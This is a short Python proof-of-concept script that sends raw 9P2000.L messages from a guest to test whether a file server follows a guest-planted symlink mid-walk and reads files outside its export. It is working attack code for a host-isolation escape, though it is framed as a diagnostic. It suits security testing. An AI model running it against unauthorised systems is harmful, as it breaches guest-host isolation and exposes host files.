# raw9p.py HOST PORT ANAME PATH/COMPONENTS... : a guest that speaks 9P2000.L itself (as guest
# root can) walks the given components in ONE Twalk and reads the file. Shows whether the server
# follows a guest-made symlink in the middle of a walk (escape from the export).
import socket, struct, sys
host, port, aname, comps = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4:]
s = socket.create_connection((host, port))
def st(x): b = x.encode(); return struct.pack('<H', len(b)) + b
def rpc(t, body, tag=1):
    m = struct.pack('<IBH', 7 + len(body), t, tag) + body
    s.sendall(m)
    hdr = b''
    while len(hdr) < 7: hdr += s.recv(7 - len(hdr))
    size, rt, _ = struct.unpack('<IBH', hdr)
    data = b''
    while len(data) < size - 7: data += s.recv(size - 7 - len(data))
    if rt == 7: raise OSError(struct.unpack('<I', data[:4])[0], 'Rlerror for type %d' % t)
    return data
rpc(100, struct.pack('<I', 65536) + st('9P2000.L'), tag=0xffff)
rpc(104, struct.pack('<II', 0, 0xffffffff) + st('root') + st(aname) + struct.pack('<I', 0))
w = rpc(110, struct.pack('<IIH', 0, 1, len(comps)) + b''.join(st(c) for c in comps))
print('raw9p: walk returned %d of %d qids, types %s' % (struct.unpack('<H', w[:2])[0], len(comps), [w[2+13*i] for i in range(struct.unpack('<H', w[:2])[0])]))
rpc(12, struct.pack('<II', 1, 0))  # O_RDONLY
d = rpc(116, struct.pack('<IQI', 1, 0, 4096))
n = struct.unpack('<I', d[:4])[0]
print("raw9p read %d bytes via %s: %r" % (n, '/'.join(comps), d[4:4 + n][:120]))
